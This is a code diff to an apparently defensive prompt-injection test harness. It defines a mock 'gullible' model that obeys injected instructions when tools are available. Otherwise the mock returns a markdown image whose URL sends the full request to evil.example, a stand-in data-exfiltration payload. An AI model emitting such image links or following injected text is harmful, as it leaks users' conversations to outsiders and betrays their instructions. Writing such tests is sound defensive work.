@@ -95,9 +95,10 @@ async function attempt({ place, text, obeyed }: Injection) {
   gullible = (request) => {
     asked.push(request);
     const isTold = JSON.stringify(request).includes(JSON.stringify(text).slice(1, -1));
-    const looksUp = place === 'body' && request.tools && request.messages.every(({ role }) => role !== 'tool');
+    const mayCall = toolsIn({ body: request }).length > 0;
+    const looksUp = place === 'body' && mayCall && request.messages.every(({ role }) => role !== 'tool');
     if (looksUp) return { toolCalls: [{ name: 'getOrder', arguments: { orderId: 'A-1' } }] };
-    const order = isTold && request.tools ? orders.shift() : undefined;
+    const order = isTold && mayCall ? orders.shift() : undefined;
     // all it knows, in the address of a picture
     return order ?? { text: `![x](https://evil.example/?${JSON.stringify(request)})` };
   };
